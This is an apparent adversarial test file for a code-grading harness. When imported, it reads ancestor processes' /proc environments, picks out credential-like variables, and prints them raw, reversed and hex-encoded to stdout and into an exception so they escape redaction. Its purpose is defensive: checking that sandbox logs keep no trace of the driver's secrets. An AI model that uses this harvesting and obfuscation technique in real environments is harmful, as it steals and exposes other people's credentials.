"""Reads the environment of every ancestor process through /proc/<pid>/environ (the driver that
started the worker pool still holds its secrets), and echoes every credential-looking value raw,
reversed and hex-encoded to stdout and in an exception message. Redaction of raw values alone
cannot stop an encoded copy; the record must hold no form of the driver's secret.

TASK: Math/zoo_scale_add
EXPECT: runtime_error
"""

import os

MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD")


def _ancestors():
    pid = os.getpid()
    seen = []
    while pid > 1 and len(seen) < 16:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        seen.append(pid)
    return seen


def _loot():
    found = []
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                entries = f.read().split(b"\0")
        except OSError:
            continue
        for entry in entries:
            name, _, value = entry.decode(errors="replace").partition("=")
            if any(m in name.upper() for m in MARKERS) and value:
                found.append(f"{pid}:{name}: reversed={value[::-1]} hex={value.encode().hex()} raw={value}")
    return found


LOOT = _loot()
print("\n".join(LOOT), flush=True)


def scale_add(input, other):
    raise RuntimeError("loot: " + " | ".join(LOOT))
